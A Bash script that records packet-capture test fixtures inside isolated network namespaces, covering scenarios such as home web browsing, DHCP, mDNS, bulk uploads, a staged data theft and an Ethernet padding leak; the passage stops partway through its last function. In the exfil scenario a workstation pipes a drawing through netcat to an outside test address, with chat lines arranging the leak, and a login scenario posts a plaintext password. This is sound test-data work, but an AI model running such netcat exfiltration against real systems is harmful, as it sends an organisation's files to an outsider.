#!/bin/bash
# Records the captures of this folder: real programs on hosts of their own
# (network namespaces) talk to each other, and tcpdump writes down what they say.
#
#	sudo testdata/record.sh                 all captures
#	sudo testdata/record.sh web morning     some of them
#	OUT=/elsewhere testdata/record.sh web   into another folder
#
# Nothing leaves the machine: no namespace has a way to a real network.
# A home or an office is one namespace a host, joined by the bridge of its
# router; behind the router lies a wire that `rig shape` makes slow, and behind
# that one namespace that answers for every address on "the Internet".
# README.md says who is who. Everything started here ends with the script.
set -Eeuo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=${OUT:-$here}
prefix=netlab                 # of every namespace made here
rig=$(mktemp -t netlab-rig.XXXXXX)
# Debian puts most of what is needed here.
PATH=$PATH:/usr/sbin:/sbin:/usr/local/go/bin

die() { echo "record.sh: $*" >&2; exit 1; }

# need COMMAND PACKAGE, twice or more
need() {
	local missing=()
	while (($#)); do
		command -v "$1" >/dev/null || missing+=("$2")
		shift 2
	done
	((${#missing[@]} == 0)) || die "missing; as root: apt-get install ${missing[*]}"
}

clean() {
	trap - EXIT INT TERM
	command -v ip >/dev/null || return 0
	local ns pids
	for ns in $(ip netns list | awk -v p="^$prefix-" '$1 ~ p {print $1}'); do
		# Only what runs inside namespaces that this script made.
		pids=$(ip netns pids "$ns") || true
		[[ -z $pids ]] || kill $pids 2>/dev/null || true
	done
	[[ -z $(jobs -p) ]] || kill $(jobs -p) 2>/dev/null || true
	sleep 0.3
	for ns in $(ip netns list | awk -v p="^$prefix-" '$1 ~ p {print $1}'); do
		pids=$(ip netns pids "$ns") || true
		[[ -z $pids ]] || kill -9 $pids 2>/dev/null || true
		ip netns del "$ns" || true
		rm -rf "/etc/netns/$ns"
	done
	wait 2>/dev/null || true
}

# guard: from here on everything ends and is put away with this shell
guard() {
	work=$(mktemp -d -t netlab.XXXXXX)
	chmod 755 "$work"
	trap 'clean; rm -rf "$work"' EXIT
	trap 'exit 130' INT TERM
}
trap 'rm -rf "$rig"' EXIT
trap 'exit 130' INT TERM
trap 'echo "record.sh: line $LINENO: $BASH_COMMAND: failed" >&2' ERR

# on HOST COMMAND...: run it there
on() { local host=$1; shift; ip netns exec "$prefix-$host" "$@"; }

# bg HOST COMMAND...: run it there in the background, silently
bg() { on "$@" >"$work/log.$1.$(basename "$2")" 2>&1 & }

# space HOST: a network namespace with quiet defaults
space() {
	ip netns add "$prefix-$1"
	on "$1" sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 \
		net.ipv4.tcp_congestion_control=reno net.ipv4.tcp_no_metrics_save=1 \
		net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.default.send_redirects=0 \
		net.ipv4.ip_local_port_range="49152 60999"
	on "$1" ip link set lo up
}

# cable HOST-A DEVICE-A HOST-B DEVICE-B
cable() {
	ip -n "$prefix-$1" link add "$2" type veth peer name "$4" netns "$prefix-$3"
	plain "$1" "$2"
	plain "$3" "$4"
}

# plain HOST DEVICE: frames as a wire carries them, checksums filled in
plain() {
	on "$1" ethtool -K "$2" tx off rx off tso off gso off gro off sg off >/dev/null 2>&1 || true
}

# mac HOST DEVICE
mac() { on "$1" cat "/sys/class/net/$2/address"; }

# lan: router `gw` with its bridge br-lan, the slow wire, and `inet` behind it.
# Set before: lan_ip (router, with prefix length), gw_mac, rules (of the wire).
lan() {
	space gw; space wire; space inet
	on gw ip link add br-lan type bridge stp_state 0 forward_delay 0 mcast_snooping 0
	plain gw br-lan
	on gw ip link set br-lan address "$gw_mac"
	on gw sysctl -q -w net.ipv4.ip_forward=1
	cable gw wan0 wire left
	cable wire right inet eth0
	on wire ip link set left up promisc on
	on wire ip link set right up promisc on
	on gw ip addr add "$lan_ip" dev br-lan
	on gw ip link set br-lan up
	on gw ip addr add 10.255.0.1/30 dev wan0
	on gw ip link set wan0 up
	on inet ip addr add 10.255.0.2/30 dev eth0
	on inet ip addr add 198.51.100.53/32 dev lo
	on inet ip link set eth0 up
	on inet ip route add default via 10.255.0.1
	# Every address of the Internet lies behind one neighbour, known from the start.
	on gw ip neigh replace 10.255.0.2 lladdr "$(mac inet eth0)" dev wan0 nud permanent
	on inet ip neigh replace 10.255.0.1 lladdr "$(mac gw wan0)" dev eth0 nud permanent
	on gw ip route add 192.0.2.0/24 via 10.255.0.2
	on gw ip route add 198.51.100.0/24 via 10.255.0.2
	on gw ip route add 203.0.113.0/24 via 10.255.0.2
	bg wire "$rig" shape -a left -b right -mbit "${mbit:-20}" -seed 7 "${rules[@]}"
}

# host NAME MAC: a machine on the LAN, its cable plugged in but still without address
host() {
	space "$1"
	cable "$1" eth0 gw "p-$1"
	on "$1" ip link set eth0 address "$2"
	on gw ip link set "p-$1" master br-lan
	on gw ip link set "p-$1" up
	mkdir -p "/etc/netns/$prefix-$1"
	echo "nameserver ${lan_ip%/*}" >"/etc/netns/$prefix-$1/resolv.conf"
}

# lan6: IPv6 for the router, the Internet and every host plugged in later
lan6() {
	on gw sysctl -q -w net.ipv6.conf.br-lan.disable_ipv6=0 net.ipv6.conf.wan0.disable_ipv6=0 \
		net.ipv6.conf.all.forwarding=1 net.ipv6.conf.br-lan.accept_dad=0
	on inet sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0 net.ipv6.conf.lo.disable_ipv6=0
	on gw ip addr add 2001:db8:1::1/64 dev br-lan nodad
	on gw ip addr add 2001:db8:255::1/64 dev wan0 nodad
	on inet ip addr add 2001:db8:255::2/64 dev eth0 nodad
	on inet ip route add default via 2001:db8:255::1
	on gw ip route add 2001:db8:ffff::/64 via 2001:db8:255::2
	on gw ip neigh replace 2001:db8:255::2 lladdr "$(mac inet eth0)" dev wan0 nud permanent
	on inet ip neigh replace 2001:db8:255::1 lladdr "$(mac gw wan0)" dev eth0 nud permanent
}

# join HOST: switch the machine on: link, IPv6 by itself, IPv4 by DHCP
join() {
	on "$1" sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0
	on "$1" ip link set eth0 up
	cat >"$work/dhcp.$1.conf" <<END
send host-name "$1";
request subnet-mask, routers, domain-name, domain-name-servers, ntp-servers;
END
	on "$1" dhclient -4 -1 -q -sf "$work/lease.sh" -cf "$work/dhcp.$1.conf" -lf "$work/dhcp.$1.leases" \
		-pf "$work/dhcp.$1.pid" eth0 >"$work/log.dhclient.$1" 2>&1
}

# settle HOST: wait for its own global IPv6 address to be found unique
settle() {
	local i
	for i in {1..60}; do
		on "$1" ip -6 addr show dev eth0 scope global -tentative | grep -q inet6 && return
		sleep 0.1
	done
	die "$1 got no IPv6 address"
}

# lease.sh does with an offered address what dhclient's own script does, less resolv.conf.
lease_script() {
	cat >"$work/lease.sh" <<'END'
#!/bin/sh
case $reason in
BOUND|REBOOT)
	ip addr add "$new_ip_address/$new_subnet_mask" dev "$interface"
	ip route add default via "$new_routers" ;;
esac
exit 0
END
	chmod 755 "$work/lease.sh"
}

# bonjour HOST [NAME TYPE PORT TEXT]...: avahi-daemon there, publishing those services
bonjour() {
	local host=$1; shift
	local dir=$work/avahi.$host
	mkdir -p "$dir"
	printf '[server]\nhost-name=%s\nallow-interfaces=eth0\n[publish]\npublish-workstation=no\n' "$host" >"$dir.conf"
	while (($#)); do
		cat >"$dir/$3.service" <<END
<service-group><name>$1</name><service><type>$2</type><port>$3</port><txt-record>$4</txt-record></service></service-group>
END
		shift 4
	done
	# Each has its own /run, for its socket and its message bus.
	on "$host" unshare -m sh -c "mount -t tmpfs none /run && mkdir /run/avahi-daemon &&
		mount --bind '$dir' /etc/avahi/services && export DBUS_SYSTEM_BUS_ADDRESS=unix:path=$dir.bus &&
		dbus-daemon --session --fork --nopidfile --address=unix:path=$dir.bus &&
		exec avahi-daemon --no-drop-root --no-rlimits --no-chroot -f '$dir.conf'" >"$work/log.avahi.$host" 2>&1 &
}

# log HOST SERVER TAG MESSAGE: one syslog line, signed with the host's name
log() { on "$1" unshare -u sh -c 'hostname "$0" && exec logger -n "$1" -d -P 514 -t "$2" "$3"' "$@"; }

# clock: an NTP server of the Internet
clock() {
	on inet ip addr add 198.51.100.123/32 dev lo
	printf 'local stratum 2\nallow\nbindaddress 198.51.100.123\ncmdport 0\nbindcmdaddress /\npidfile %s/chrony.pid\n' \
		"$work" >"$work/chrony.conf"
	bg inet chronyd -d -x -u root -f "$work/chrony.conf"
}

# address HOST ADDRESS/LENGTH: a fixed one, and the way out
address() {
	on "$1" ip addr add "$2" dev eth0
	on "$1" ip link set eth0 up
	on "$1" ip route add default via "${lan_ip%/*}"
}

# names WORDS...: dnsmasq of the Internet with those records, dnsmasq of the router before it
names() {
	bg inet dnsmasq -k -C /dev/null --pid-file= -u root --no-resolv --no-hosts --local-ttl=300 \
		--bind-interfaces --listen-address=198.51.100.53 --local=/example/ --local=/example.org/ \
		--local=/example.net/ --local=/113.0.203.in-addr.arpa/ --local=/100.51.198.in-addr.arpa/ "$@"
	bg gw dnsmasq -k -C "$work/gw.conf" --pid-file= -u root --no-resolv --no-hosts --server=198.51.100.53 \
		--interface=br-lan --bind-dynamic --local-ttl=600 --domain=home.arpa --local=/home.arpa/ \
		--host-record="router.home.arpa,${lan_ip%/*}" --dhcp-leasefile="$work/leases"
}

# certificate NAME...: a server key and a chain for those names, of a CA of our own
certificate() {
	local alt="" name
	for name; do alt+=${alt:+,}DNS:$name; done
	cd "$work"
	[[ -e ca.crt ]] || {
		openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.crt -days 3650 \
			-subj "/O=Netlab/CN=Netlab Root" 2>/dev/null
		openssl req -newkey rsa:2048 -nodes -keyout sub.key -out sub.csr \
			-subj "/O=Netlab/CN=Netlab Issuing CA" 2>/dev/null
		openssl x509 -req -in sub.csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 1825 -out sub.crt \
			-extfile <(echo "basicConstraints=critical,CA:true") 2>/dev/null
	}
	openssl req -newkey rsa:2048 -nodes -keyout server.key -out server.csr -subj "/CN=$1" 2>/dev/null
	openssl x509 -req -in server.csr -CA sub.crt -CAkey sub.key -CAcreateserial -days 365 -out leaf.crt \
		-extfile <(echo "subjectAltName=$alt") 2>/dev/null
	cat leaf.crt sub.crt >server.crt
	cd - >/dev/null
}

# site NAME FILE SIZE ...: files of that many bytes below $work/www/NAME
site() {
	local name=$1; shift
	while (($#)); do
		mkdir -p "$work/www/$name/$(dirname "$1")"
		if [[ $1 == *.html || $1 == *.css || $1 == *.js || $1 == *.txt ]]; then
			text "$2" >"$work/www/$name/$1"
		else
			noise "$name/$1" "$2" >"$work/www/$name/$1"
		fi
		shift 2
	done
}

# text BYTES: numbered sentences
text() {
	awk -v n="$1" 'BEGIN {
		split("A frame that is too short is padded.|The name server answers in a moment.|" \
			"Every packet finds its own way home.|Nobody reads this page to the end.|" \
			"An address says where, a name says who.|What is not acknowledged is sent again.|" \
			"The kettle is on the network now.", line, "|")
		for (i = 1; t < n; i++) {
			s = sprintf("<p>%d. %s</p>\n", i, line[1 + i % 7])
			printf "%s", substr(s, 1, n - t)
			t += length(s)
		}
	}'
}

# noise SEED BYTES: bytes that look compressed, the same for the same seed
noise() {
	local key
	key=$(printf %s "$1" | openssl dgst -md5 -r | cut -c1-32)
	head -c "$2" /dev/zero | openssl enc -aes-128-ctr -K "$key" -iv 00000000000000000000000000000000
}

# web ADDRESS...: nginx with every site, in clear and over TLS, on those addresses of the Internet
web() {
	local ip
	for ip; do on inet ip addr add "$ip/32" dev lo 2>/dev/null || true; done
	mkdir -p "$work/www"
	cat >"$work/nginx.conf" <<END
daemon off; worker_processes 1; pid $work/nginx.pid; error_log $work/nginx.log;
events { worker_connections 256; }
user root;
http {
	access_log off; server_tokens off; sendfile off; tcp_nopush on;
	client_body_temp_path $work/t1; proxy_temp_path $work/t2; fastcgi_temp_path $work/t3;
	uwsgi_temp_path $work/t4; scgi_temp_path $work/t5;
	client_max_body_size 8m;
	types { text/html html; text/css css; text/javascript js; text/plain txt; image/png png; image/jpeg jpg; application/zip zip; }
	default_type application/octet-stream;
	server {
		${ports:-}
		${web_server:-}
		listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl;
		ssl_protocols TLSv1.2 TLSv1.3;
		ssl_certificate $work/server.crt; ssl_certificate_key $work/server.key;
		root $work/www/${web_root:-\$host};
		dav_methods PUT; create_full_put_path on;
		error_page 405 =200 \$uri;
	}
	${web_more:-}
}
END
	bg "${web_host:-inet}" nginx -c "$work/nginx.conf"
}

# capture HOST DEVICE FILE [FILTER]: until stop, 20,000 packets or five minutes
capture() {
	local file=$work/$3.raw log=$work/log.tcpdump.$3
	on "$1" timeout 300 tcpdump -c 20000 -q -n -i "$2" -s 65535 -Z root --immediate-mode -U -w "$file" "${@:4}" 2>"$log" &
	tcpdump_pid[$3]=$!
	until grep -q "listening on" "$log" 2>/dev/null; do sleep 0.05; done
	sleep 0.2
}
declare -A tcpdump_pid

# stop FILE: end the capture and put it in its place
stop() {
	sleep 0.3
	pkill -P "${tcpdump_pid[$1]}" 2>/dev/null || true # ten packets may have ended it already
	wait "${tcpdump_pid[$1]}" 2>/dev/null || true
	grep -q "^0 packets dropped by kernel" "$work/log.tcpdump.$1" || die "$1: $(cat "$work/log.tcpdump.$1")"
	cp "$work/$1.raw" "$out/$1"
	echo "$1: $(tcpdump -nr "$out/$1" --count 2>/dev/null), $(stat -c %s "$out/$1") bytes"
}

# fetch HOST ARGUMENTS...: curl there, trusting our CA; the bytes go nowhere
fetch() { on "$1" curl -s -S --no-progress-meter --max-time 30 --cacert "$work/ca.crt" -A "Mozilla/5.0 (netlab)" --output-dir "$work/got" --remote-name-all "${@:2}"; }

home_names=(
	--host-record=www.example.org,198.51.100.20,2001:db8:ffff::20
	--host-record=static.example.org,198.51.100.21
	--host-record=news.example.net,198.51.100.30,2001:db8:ffff::30
	--host-record=video.example.net,203.0.113.40
	--host-record=mail.example.org,198.51.100.25
	--host-record=time.example.org,198.51.100.123
	--host-record=cloud.example.net,203.0.113.80
	--host-record=meet.example.net,203.0.113.90
	--host-record=ns.example.org,198.51.100.53
	--cname=blog.example.org,www.example.org
	--mx-host=example.org,mail.example.org,10
	"--txt-record=example.org,v=spf1 mx -all"
)

record_ten() {
	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 rules=("*,delay=8ms")
	: >"$work/gw.conf"
	lan
	host laptop 3c:15:c2:d9:d3:50
	address laptop 192.168.1.23/24
	names "${home_names[@]}"
	on inet ip addr add 198.51.100.20/32 dev lo
	bg inet "$rig" serve 198.51.100.20:80
	sleep 1
	on gw ip neigh flush all
	# Without the server's empty acknowledgements it is ten packets.
	capture laptop eth0 ten.pcap -c 10 "not (src 198.51.100.20 and tcp[13] = 0x10 and ip[2:2] = 52)"
	on laptop ping -q -c 1 -s 32 192.168.1.1 >/dev/null
	sleep 0.4
	on laptop "$rig" get www.example.org:80
	stop ten.pcap
}

record_web() {
	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7
	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=40ms" "*,delay=5ms")
	: >"$work/gw.conf"
	lan
	host laptop 3c:15:c2:d9:d3:50
	address laptop 192.168.1.23/24
	certificate www.example.org static.example.org
	site www.example.org index.html 21840 about.html 9120
	site static.example.org style.css 14210 app.js 31877 logo.png 5604 hero.jpg 47310 team.jpg 18977 icon.png 1846
	web 198.51.100.20 198.51.100.21
	names "${home_names[@]}"
	sleep 1
	mkdir -p "$work/got"
	capture laptop eth0 web.pcap
	fetch laptop https://www.example.org/index.html
	local files="https://static.example.org/{style.css,app.js,logo.png,hero.jpg,team.jpg,icon.png}"
	fetch laptop --parallel --parallel-immediate --parallel-max 2 "$files"
	sleep 2.2
	fetch laptop https://www.example.org/about.html
	sleep 0.8
	on laptop dig +short -x 198.51.100.20 >/dev/null
	on laptop dig +short -x 198.51.100.21 >/dev/null
	on laptop dig +short -x 192.168.1.1 >/dev/null
	sleep 3
	stop web.pcap
}

record_morning() {
	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7
	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=35ms" "2001:db8:ffff::/64,delay=12ms" "*,delay=5ms")
	cat >"$work/gw.conf" <<END
dhcp-range=192.168.1.100,192.168.1.199,12h
dhcp-range=2001:db8:1::,ra-only,64
enable-ra
dhcp-authoritative
dhcp-host=3c:15:c2:d9:d3:50,laptop,192.168.1.23
dhcp-host=a4:77:33:2f:e0:6e,phone,192.168.1.24
dhcp-option=option:ntp-server,198.51.100.123
host-record=printer.home.arpa,192.168.1.9
host-record=nas.home.arpa,192.168.1.10
END
	lan; lan6; lease_script
	host laptop 3c:15:c2:d9:d3:50
	host phone a4:77:33:2f:e0:6e
	host tv 8c:79:f5:31:0c:92
	host thermostat 18:b4:30:5a:e4:17
	host printer 3c:d9:2b:74:1e:0d
	host nas 00:11:32:8b:46:f0
	local i
	for i in 20 30; do on inet ip addr add "2001:db8:ffff::$i/128" dev lo nodad; done
	certificate www.example.org news.example.net video.example.net mail.example.org cloud.example.net
	site www.example.org index.html 8800 manual.zip 287000 list.txt 24100
	site news.example.net index.html 46300 front.jpg 61800 style.css 9700
	site video.example.net part1.ts 141000 part2.ts 152000
	site mail.example.org inbox.txt 5200
	site cloud.example.net report.txt 61
	web 198.51.100.20 198.51.100.25 198.51.100.30 203.0.113.40 203.0.113.80
	on inet ip addr add 203.0.113.90/32 dev lo
	clock
	names "${home_names[@]}"
	address printer 192.168.1.9/24
	address nas 192.168.1.10/24
	bg nas nc -u -l -k 514
	sleep 2
	mkdir -p "$work/got"
	capture gw br-lan morning.pcap

	# The laptop is opened: addresses, the time, the news over IPv6.
	join laptop
	settle laptop
	sleep 0.1
	on laptop chronyd -x -Q -t 7 -u root -f /dev/null 'server time.example.org iburst maxsamples 3' \
		'bindcmdaddress /' "pidfile $work/chrony-laptop.pid" >/dev/null 2>&1 &
	sleep 1
	fetch laptop -6 --parallel --parallel-immediate "https://news.example.net/{index.html,style.css,front.jpg}"
	log laptop 192.168.1.10 backup "backup of laptop begins"
	sleep 2.3

	# The phone comes in; the thermostat reports every six seconds, in clear.
	join phone
	sleep 0.7
	fetch phone -4 --tls-max 1.2 https://mail.example.org/inbox.txt
	join thermostat
	for i in 1 2 3 4; do
		fetch thermostat -4 -d "{\"temperature\": 19.$i, \"humidity\": 4$i}" http://cloud.example.net/report.txt
		sleep 6
	done &
	local reports=$!
	sleep 1.5

	# Printer, disk and television announce themselves; the laptop looks for a printer.
	bonjour printer "Office Printer" _ipp._tcp 631 "pdl=application/pdf"
	bonjour nas "Family Disk" _smb._tcp 445 "model=disk"
	join tv
	bonjour tv "Living Room TV" _googlecast._tcp 8009 "md=Television"
	bonjour laptop
	sleep 2.5
	DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus on laptop timeout 4 avahi-browse -r -t _ipp._tcp >"$work/log.browse" 2>&1 || true
	sleep 1

	# Is the net all right?
	on laptop ping -q -c 3 -i 0.5 192.168.1.1 >/dev/null
	on laptop ping -q -c 4 -i 0.5 www.example.org -4 >/dev/null
	on laptop ping -q -c 3 -i 0.5 2001:db8:ffff::20 >/dev/null
	on laptop ping -q -c 1 -t 1 -W 1 198.51.100.30 >/dev/null || true
	on laptop ping -q -c 2 -i 0.5 -W 1 192.168.1.77 >/dev/null || true

	# A call by picture telephone while the television plays.
	bg phone "$rig" call -local 192.168.1.24:50000 -remote 203.0.113.90:8801 -for 7s -video -seed 3
	bg inet "$rig" call -local 203.0.113.90:8801 -remote 192.168.1.24:50000 -for 7s -video -seed 4
	sleep 2
	fetch tv https://video.example.net/part1.ts
	sleep 2.5
	fetch tv https://video.example.net/part2.ts
	sleep 3
	wait "$reports"

	# Breakfast: nobody touches anything.
	sleep 11

	# One large download, several questions to the name server, a letter to the log.
	fetch laptop -4 https://www.example.org/manual.zip
	fetch nas -4 http://www.example.org/list.txt
	on laptop dig +short blog.example.org >/dev/null
	on laptop dig +short mx example.org >/dev/null
	on laptop dig +short txt example.org >/dev/null
	on laptop dig +short aaaa news.example.net >/dev/null
	on laptop dig +short wwww.example.org >/dev/null
	for i in 198.51.100.20 198.51.100.25 198.51.100.30 203.0.113.40 203.0.113.80 203.0.113.90 192.168.1.1 192.168.1.9 192.168.1.24; do
		on laptop dig +short -x "$i" >/dev/null
	done
	log laptop 192.168.1.10 backup "backup of laptop done, 287000 bytes"
	on laptop dig +time=1 +tries=1 @192.168.1.9 printer.home.arpa >/dev/null || true
	sleep 3
	stop morning.pcap
}

record_bulk() {
	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 mbit=12
	local ports="listen 8001; listen 8002; listen 8003; listen 8004; listen 8005;"
	rules=(
		"8001,delay=30ms,queue=1000000"
		"8002,delay=30ms,queue=1000000,loss=0.02"
		"8003,delay=30ms,queue=1000000,reorder=0.04,hold=9ms"
		"8004,delay=30ms,queue=24000"
		"8005,delay=30ms,queue=1000000,loss=0.02"
		"*,delay=8ms")
	: >"$work/gw.conf"
	lan
	host laptop 3c:15:c2:d9:d3:50
	address laptop 192.168.1.23/24
	certificate cloud.example.net
	site cloud.example.net photo.raw 260000 backup.zip 260000
	web 203.0.113.80
	names "${home_names[@]}"
	sleep 1
	mkdir -p "$work/got"
	capture laptop eth0 bulk.pcap
	local port
	for port in 8001 8002 8003 8004; do
		fetch laptop -H "Expect:" -T "$work/www/cloud.example.net/photo.raw" "http://cloud.example.net:$port/kept/$port.raw"
		sleep 0.7
	done
	fetch laptop "http://cloud.example.net:8005/backup.zip"
	sleep 0.5
	stop bulk.pcap
}

# chat FILE: the lines of one side, each after the seconds that stand before it
chat() { while read -r pause line; do sleep "$pause"; echo "$line"; done <"$1"; }

record_exfil() {
	lan_ip=192.168.20.1/24 gw_mac=00:1b:54:0c:77:21 mbit=20
	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=42ms" "*,delay=5ms")
	: >"$work/gw.conf"
	lan
	host server 00:25:90:61:a0:05
	host ws11 d4:be:d9:3f:21:11
	host ws12 d4:be:d9:3f:2c:12
	host ws13 f0:18:98:44:d7:13
	address server 192.168.20.5/24
	address ws11 192.168.20.11/24
	address ws12 192.168.20.12/24
	address ws13 192.168.20.13/24
	certificate www.example.org static.example.org news.example.net
	site www.example.org index.html 21840 rates.html 9120
	site static.example.org style.css 14210 logo.png 15604
	site news.example.net index.html 46300 front.jpg 31800
	"$rig" draw -w 300 -h 200 -grain 5 -seed 4 "$work/www/static.example.org/hills.png"
	"$rig" draw -plan -w 640 -h 400 -grain 4 "$work/plan.png"
	local size; size=$(stat -c %s "$work/plan.png")
	web 198.51.100.20 198.51.100.21 198.51.100.30
	on inet ip addr add 203.0.113.66/32 dev lo
	names "${home_names[@]}" --mx-host=example.net,mail.example.net,10
	bg server "$rig" smtp 192.168.20.5:25
	# The server takes logins with a key made for the occasion.
	ssh-keygen -q -t ed25519 -N "" -f "$work/key"
	dropbearkey -t ed25519 -f "$work/hostkey" >/dev/null 2>&1
	mkdir -m 700 "$work/dotssh"
	install -m 600 "$work/key.pub" "$work/dotssh/authorized_keys"
	bg server unshare -m sh -c "mkdir -p ~/.ssh && mount --bind $work/dotssh ~/.ssh &&
		exec dropbear -F -E -s -r $work/hostkey -P $work/dropbear.pid -p 192.168.20.5:22"
	cat >"$work/chat.in" <<END
1.2 there?
2.9 got the R7 drawing. one file, plan.png, $size bytes
2.4 not by mail, they read that
3.1 going now
END
	cat >"$work/chat.out" <<END
2.6 yes. well?
2.8 good. how?
2.1 port 31337 then. plain, i keep the line open
4.2 got $size bytes. burn this
END
	sleep 1
	mkdir -p "$work/got"
	capture gw br-lan exfil.pcap

	fetch ws11 --parallel --parallel-immediate --parallel-max 2 "https://news.example.net/{index.html,front.jpg}"
	sleep 1.2
	printf 'From: dana@corp.example\r\nTo: sam@corp.example\r\nSubject: lunch\r\n\r\nAt noon, the usual place?\r\nDana\r\n' >"$work/mail1"
	on ws11 curl -s --crlf smtp://192.168.20.5 --mail-from dana@corp.example --mail-rcpt sam@corp.example -T "$work/mail1"
	sleep 0.9
	on ws13 ssh -q -i "$work/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile="$work/known" -o BatchMode=yes \
		root@192.168.20.5 'for i in 1 2 3 4 5 6; do date; sleep 0.6; done' >/dev/null 2>&1 &
	fetch ws12 https://www.example.org/index.html
	sleep 2.1
	fetch ws13 http://static.example.org/hills.png
	sleep 1.4
	on ws11 ping -q -c 3 -i 0.4 192.168.20.5 >/dev/null
	fetch ws11 https://www.example.org/rates.html

	# Workstation 12 talks to a stranger, then sends what it should not.
	on inet sh -c 'exec nc -l -p 1337 -s 203.0.113.66 >/dev/null' < <(chat "$work/chat.out") &
	on inet sh -c 'exec nc -l -p 31337 -s 203.0.113.66 >/dev/null' </dev/null &
	sleep 0.3
	{ chat "$work/chat.in"; sleep 5; } | on ws12 timeout 30 nc -N 203.0.113.66 1337 >/dev/null &
	local talk=$!
	sleep 3
	fetch ws13 --parallel --parallel-immediate --parallel-max 2 "https://static.example.org/{style.css,logo.png}"
	sleep 3
	printf 'From: sam@corp.example\r\nTo: dana@corp.example\r\nSubject: Re: lunch\r\n\r\nYes. I bring the figures.\r\nSam\r\n' >"$work/mail2"
	on ws13 curl -s --crlf smtp://192.168.20.5 --mail-from sam@corp.example --mail-rcpt dana@corp.example -T "$work/mail2"
	sleep 3.9
	on ws12 timeout 20 nc -N 203.0.113.66 31337 <"$work/plan.png" >/dev/null
	wait "$talk" || true

	sleep 1
	fetch ws11 http://www.example.org/rates.html
	fetch ws12 https://news.example.net/index.html
	on ws12 dig +short mx example.net >/dev/null
	sleep 2
	stop exfil.pcap
}

record_leak() {
	lan_ip=192.168.15.1/24 gw_mac=28:80:88:27:6b:a7 mbit=16
	rules=("198.51.100.0/24,delay=11ms" "203.0.113.0/24,delay=38ms" "*,delay=5ms")
	: >"$work/gw.conf"
	lan
	host maria 3c:15:c2:70:b1:04
	host deniz 00:14:22:5d:08:e3
	host jo 00:1d:d9:5b:32:c7
	host tvbox 00:1d:6b:4e:90:1a
	local h
	# Without TCP timestamps, as some systems are set, an acknowledgement is 54 bytes long: too short for Ethernet.
	for h in maria deniz jo tvbox gw inet; do on $h sysctl -q -w net.ipv4.tcp_timestamps=0; done
	address maria 192.168.15.23/24
	address deniz 192.168.15.31/24
	address jo 192.168.15.4/24
	address tvbox 192.168.15.60/24
	certificate www.example.org news.example.net video.example.net static.example.org
	site www.example.org index.html 21840 forum.html 37300 login.html 900
	site news.example.net index.html 46300 front.jpg 61800
	site video.example.net film.ts 486000 guide.txt 30400
	site static.example.org style.css 14210 logo.png 5604
	web 198.51.100.20 198.51.100.21 198.51.100.30 203.0.113.40
	names "${home_names[@]}"
	on tvbox sysctl -q -w net.ipv4.icmp_echo_ignore_all=1
	sleep 1
	mkdir -p "$work/got"
	capture gw br-lan leak.pcap
	fetch maria "https://news.example.net/{index.html,front.jpg}"
	on jo ping -q -c 3 -i 0.3 -s 4 192.168.15.1 >/dev/null
	sleep 2.3
	# Many short frames after a login: the card's memory comes round to the password.
	fetch jo -d "user=jo&password=correct+horse+battery+staple" http://www.example.org/login.html
	on jo ping -q -c 48 -i 0.03 -W 0.1 -s 0 192.168.15.60 >/dev/null || true
	fetch jo -b "session=7f3a9c; user=jo" http://www.example.org/forum.html
	fetch tvbox http://video.example.net/guide.txt
	sleep 4.4
	fetch deniz "https://www.example.org/{index.html,forum.html}"
	fetch jo -d "subject=hello&text=nobody+will+ever+read+this" http://www.example.org/forum.html
	sleep 0.7
	on tvbox ping -q -c 3 -i 0.4 -s 2 192.168.15.1 >/dev/null
	fetch maria https://video.example.net/film.ts
	on deniz ping -q -c 2 -i 0.4 -s 8 192.168.15.23 >/dev/null
	sleep 6.2
	fetch tvbox -H "X-Account: 4711-0815" http://video.example.net/guide.txt
	fetch deniz "https://static.example.org/{style.css,logo.png}"
	on jo ping -q -c 2 -i 0.4 -s 6 192.168.15.31 >/dev/null
	fetch jo http://www.example.org/index.html
	sleep 4.2
	stop leak.pcap
	"$rig" pad -leaky 00:1d:d9:5b:32:c7 -leaky 00:1d:6b:4e:90:1a "$work/leak.pcap.raw" "$out/leak.pcap"
}

# hop HOST-A DEVICE-A ADDRESS-A HOST-B DEVICE-B ADDRESS-B [RULE [MTU]]: a cable between two routers; with a rule, one that
# is as slow as rig shape makes it
hop() {
	if (($# > 6)); then
		local wire=wire-$1
		space "$wire"
		cable "$1" "$2" "$wire" left
		cable "$wire" right "$4" "$5"
		on "$wire" ip link set left up promisc on
		on "$wire" ip link set right up promisc on
		bg "$wire" "$rig" shape -a left -b right -mbit "${mbit:-20}" -seed 7 "$7"
	else
		cable "$1" "$2" "$4" "$5"
	fi
	on "$1" ip addr add "$3" dev "$2"
	on "$4" ip addr add "$6" dev "$5"
	on "$1" ip link set dev "$2" mtu "${8:-1500}" up
	on "$4" ip link set dev "$5" mtu "${8:-1500}" up
}

record_path() {
	lan_ip=192.168.7.1/24 gw_mac=28:80:88:27:6b:a7 mbit=12
	local h
	for h in gw r1 r2 r3 server; do
		space "$h"
		on "$h" sysctl -q -w net.ipv4.ip_forward=1 net.ipv4.icmp_ratelimit=0
	done
	on gw ip link add br-lan type bridge stp_state 0 forward_delay 0 mcast_snooping 0
	plain gw br-lan
	on gw ip link set br-lan address "$gw_mac"
	on gw ip addr add "$lan_ip" dev br-lan
	on gw ip link set br-lan up
	host laptop 3c:15:c2:d9:d3:50
	host phone a4:77:33:2f:e0:6e
	host printer 3c:d9:2b:74:1e:0d
	address laptop 192.168.7.20/24
	address printer 192.168.7.30/24
	on phone ip link set eth0 up

	# The way to the server: four routers, the second of them silent, the last cable but one narrow.
